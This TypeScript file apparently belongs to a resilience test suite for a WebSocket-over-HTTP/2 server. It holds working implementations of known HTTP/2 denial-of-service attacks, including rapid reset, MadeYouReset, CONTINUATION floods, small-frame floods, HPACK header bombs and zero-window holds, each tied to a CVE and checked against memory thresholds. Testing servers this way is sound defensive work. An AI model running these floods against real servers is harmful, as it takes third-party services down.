import { setTimeout as delay } from "node:timers/promises";
import {
  flags,
  headerBlock,
  http2Frame,
  numberFrame,
  settingsFrame,
  frameTypes as types,
} from "../../../websocket/test/http2-frames.ts";
import { concat, FrameWriter } from "../../src/frame-bytes.ts";
import type { Attack, Setup } from "../instrument/attack.ts";
import type { Scene } from "../instrument/scene.ts";
import { connectBlock, many, openingFrame, RawSession, streamId } from "./raw-session.ts";

const group = "http2";
const setup: Setup = { isSecure: true, isHttp2: true };
const write = new FrameWriter("client");
const nothing = new Uint8Array(0);

/** RFC 9113 section 7. */
const cancel = 8;

/** What a connection sends: `round(n)` is the nth piece. */
type Rounds = (index: number) => Uint8Array;

/**
 * Sends rounds on some connections at once, as long as the attack lasts. A connection that the server
 * has ended is replaced.
 *
 * @param most - Number of rounds after which the client leaves and connects again.
 */
async function flood(
  scene: Scene,
  count: number,
  kinds: readonly Rounds[],
  most = Number.POSITIVE_INFINITY,
): Promise<void> {
  const end = performance.now() + scene.duration;
  let sent = 0;
  let used = 0;
  const keepFlooding = async (round: Rounds) => {
    while (performance.now() < end) {
      const session = await RawSession.open(scene);
      used++;
      for (let index = 0; index < most && performance.now() < end && !session.isOver; index++) {
        const bytes = round(index);
        await session.write(bytes);
        sent += bytes.length;
      }
      if (scene.isShort) {
        // Node needs up to 9 s for connections whose client leaves before it has read everything.
        session.drop();
        await delay(50);
      }
      await session.leave();
    }
  };
  const connections = Array.from({ length: count }, (_, index) => kinds[index % kinds.length]);
  await Promise.all(connections.map(keepFlooding));
  scene.note("connections", used);
  scene.note("sent in KiB", Math.round(sent / 1_024));
}

const rapidReset: Rounds = (round) =>
  many(100, (index) => {
    const id = streamId(round * 100 + index);
    return concat(openingFrame(id), numberFrame(types.rstStream, id, cancel));
  });

/** The same, where `accept` is still pending when the streams are reset. */
const rapidResetOfPending: Rounds = (round) =>
  many(100, (index) => {
    const id = streamId(round * 100 + index);
    return concat(
      openingFrame(id, connectBlock("?wait=200")),
      numberFrame(types.rstStream, id, cancel),
    );
  });

/** The server must reset a stream whose window grows by 0 (RFC 9113 section 6.9). */
const madeYouReset: Rounds = (round) =>
  many(100, (index) => {
    const id = streamId(round * 100 + index);
    return concat(openingFrame(id), numberFrame(types.windowUpdate, id, 0));
  });

/** Header blocks that never end. */
const continuations: readonly Rounds[] = [
  (round) =>
    concat(
      round === 0 ? http2Frame(types.headers, 0, 1, connectBlock()) : nothing,
      many(10, () =>
        http2Frame(
          types.continuation,
          0,
          1,
          many(400, () => headerBlock({ "x-a": "b".repeat(30) })),
        ),
      ),
    ),
  (round) =>
    concat(
      round === 0 ? http2Frame(types.headers, 0, 1, connectBlock()) : nothing,
      many(2_000, () => http2Frame(types.continuation, 0, 1)),
    ),
];

const smallFrames: readonly Rounds[] = [
  () => many(2_000, () => http2Frame(types.ping, 0, 0, new Uint8Array(8))),
  () => many(1_000, () => settingsFrame({ initialWindowSize: 65_536 })),
  (round) =>
    concat(
      round === 0 ? openingFrame(1) : nothing,
      many(2_000, () => http2Frame(types.data, 0, 1)),
    ),
  () =>
    many(2_000, (index) =>
      http2Frame(types.priority, 0, streamId(index), Uint8Array.of(0, 0, 0, 0, 1)),
    ),
  (round) =>
    many(200, (index) =>
      openingFrame(streamId(round * 200 + index), headerBlock({ ":method": "CONNECT" })),
    ),
  () => many(2_000, () => numberFrame(types.windowUpdate, 0, 1)),
];

/**
 * A header of 4,000 bytes enters the dynamic table of HPACK, and is referred to with one byte each
 * time after that (RFC 7541 section 6.1; CVE-2016-6581).
 */
const bomb = concat(
  connectBlock(),
  Uint8Array.of(0x40, 3),
  Buffer.from("x-a"),
  Uint8Array.of(0x7f, 0xa1, 0x1e),
  Buffer.alloc(4_000, "b"),
  new Uint8Array(8_000).fill(0xbe),
);
const headerBombs: Rounds = (round) => openingFrame(streamId(round), bomb);

/** Opens streams that ask for messages which the window does not let pass. */
async function holdBack(scene: Scene): Promise<void> {
  const sessions = await scene.times(
    scene.size(4, 2),
    () => RawSession.open(scene, { initialWindowSize: 0 }),
    4,
  );
  for (const session of sessions) {
    session.drop();
    const ask = write.text(`!send ${scene.size(400, 100)} 65536`);
    await session.write(
      many(4, (index) =>
        concat(
          openingFrame(streamId(index)),
          http2Frame(types.data, 0, streamId(index), ask),
          // The window of the connection is opened, those of the streams are not.
          numberFrame(types.windowUpdate, 0, 1_000_000),
        ),
      ),
    );
  }
  await delay(scene.duration);
  await Promise.all(sessions.map((session) => session.leave()));
}

/** Opens streams and leaves them, some of them before `accept` has decided. */
async function holdStreams(scene: Scene): Promise<void> {
  const sessions = await scene.times(scene.size(20, 4), () => RawSession.open(scene), 4);
  const each = scene.size(90, 50);
  const before = await scene.openConnections();
  for (const session of sessions) {
    session.drop();
    await session.write(many(each, (index) => openingFrame(streamId(index))));
    await session.write(
      many(10, (index) => openingFrame(streamId(each + index), connectBlock("?wait=300"))),
    );
  }
  await delay(scene.duration);
  scene.note("streams open", (await scene.openConnections()) - before);
  await Promise.all(sessions.map((session) => session.leave()));
}

/** Ends TCP in the middle of what the server does. */
async function leaveInTheMiddle(scene: Scene): Promise<void> {
  const ask = write.text("!send 100 65536");
  const moments: readonly Uint8Array[] = [
    concat(
      http2Frame(types.headers, 0, 1, connectBlock()),
      http2Frame(types.continuation, 0, 1, headerBlock({ "x-a": "b" })),
    ),
    openingFrame(1, connectBlock("?wait=100")),
    concat(openingFrame(1), http2Frame(types.data, 0, 1, ask)),
    concat(openingFrame(1), http2Frame(types.data, 0, 1, ask), numberFrame(types.rstStream, 1, 0)),
    concat(openingFrame(1), http2Frame(types.data, 0, 1, write.close(1_000))),
    http2Frame(types.headers, flags.endHeaders, 1, Buffer.alloc(16_000, 0xff)),
    concat(openingFrame(1), numberFrame(types.windowUpdate, 0, 2 ** 31 - 1)),
  ];
  let count = 0;
  await scene.during(scene.duration, async () => {
    await Promise.all(
      moments.map(async (bytes) => {
        const session = await RawSession.open(scene);
        await session.write(bytes);
        if (count % 2 === 0) await delay(10);
        await session.leave();
      }),
    );
    count++;
  });
  scene.note("connections", count * moments.length);
}

/** Attacks on servers that are attached to one of HTTP/2 (RFC 8441). */
export const streamAttacks: readonly Attack[] = [
  {
    name: "rapid reset",
    about:
      "four connections open WebSockets and reset them at once, on two of them while `accept` is pending (CVE-2023-44487)",
    run: (scene: Scene) => flood(scene, 4, [rapidReset, rapidResetOfPending]),
  },
  {
    name: "made you reset",
    about:
      "four connections open WebSockets in such a way that the server resets them (CVE-2025-8671)",
    run: (scene: Scene) => flood(scene, 4, [madeYouReset]),
  },
  {
    name: "header blocks without end",
    about: "four connections send CONTINUATION without end, half of them empty (CVE-2024-27316)",
    run: (scene: Scene) => flood(scene, 4, continuations),
  },
  {
    name: "floods of small frames",
    about:
      "six connections send PING, SETTINGS, empty DATA, PRIORITY, invalid requests or WINDOW_UPDATE without end and read nothing (CVE-2019-9511 to 9518)",
    run: (scene: Scene) => flood(scene, 6, smallFrames),
  },
  {
    name: "header bombs",
    about:
      "four clients send 50 requests of 12 KB each that stand for 32 MB of headers, leave, and connect again (short: three requests, CVE-2016-6581)",
    // The runtime decompresses them before anybody else sees them.
    thresholds: { memory: 1_024 },
    run: (scene: Scene) => flood(scene, 4, [headerBombs], scene.size(50, 3)),
  },
  {
    name: "streams held open",
    about:
      "20 connections open 90 WebSockets each and ten more that take 300 ms to decide, and say nothing (short: four of 50)",
    run: holdStreams,
  },
  {
    name: "windows of 0",
    about:
      "16 streams ask for 25 MiB each and let nothing pass (short: eight for 6 MiB, CVE-2019-9517)",
    thresholds: { memory: 512 },
    run: holdBack,
  },
  {
    name: "ends in the middle",
    about:
      "connections end within a header block, before `accept` decides, while output waits, in the closing handshake and after faults, again and again (CVE-2024-27983)",
    run: leaveInTheMiddle,
  },
].map((attack) => ({ thresholds: { memory: 192 }, group, setup, compares: false, ...attack }));
